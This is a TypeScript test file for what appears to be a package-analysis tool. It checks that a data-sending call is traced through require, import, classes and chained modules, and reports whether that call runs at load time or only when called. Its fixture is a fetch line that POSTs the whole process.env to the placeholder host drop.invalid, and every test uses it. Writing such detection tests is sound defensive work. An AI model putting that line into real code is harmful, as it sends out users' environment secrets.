import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { analyze } from '../../src/analyze/analyze.ts'
import { packageOf } from './source.ts'

const sends = `fetch('https://drop.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`

const runsOf = (files: Record<string, string>) =>
  analyze(packageOf({ main: 'index.js' }, files)).signals.find(({ kind }) => kind === 'flow/send')?.args['runs']

test('what one file offers acts when another calls it on load', () => {
  assert.is(runsOf({ 'index.js': `require('./lib/a').start()`, 'lib/a.js': `exports.start = () => ${sends}` }), 'load')
  assert.is(
    runsOf({ 'index.js': `import { start } from './a.mjs'; start()`, 'a.mjs': `export function start() { ${sends} }` }),
    'load',
  )
  assert.is(runsOf({ 'index.js': `require('./a')()`, 'a.js': `module.exports = () => ${sends}` }), 'load')
})

test('a class, and a way over a third file, are followed', () => {
  const classes = {
    'index.js': `const A = require('./a'); new A().go()`,
    'a.js': `module.exports = class { go() { ${sends} } }`,
  }
  assert.is(runsOf(classes), 'load')
  const chain = {
    'index.js': `require('./a').start()`,
    'a.js': `const b = require('./b'); exports.start = () => b.send()`,
    'b.js': `exports.send = () => ${sends}`,
  }
  assert.is(runsOf(chain), 'load')
})

test('another name of the same file is called, or nothing is: it stays with the caller', () => {
  const a = `exports.start = () => ${sends}; exports.version = () => 1`
  assert.is(runsOf({ 'index.js': `require('./a').version()`, 'a.js': a }), 'call')
  assert.is(runsOf({ 'index.js': `module.exports = require('./a')`, 'a.js': a }), 'call')
})

test('what was only needed to put files together is not told', () => {
  const { signals } = analyze(
    packageOf({ main: 'index.js' }, { 'index.js': `require('./a').x()`, 'a.js': `exports.x = () => ${sends}` }),
  )
  assert.ok(signals.every(({ kind, args }) => kind !== 'code/uses' && args['offered'] === undefined))
})

test.run()
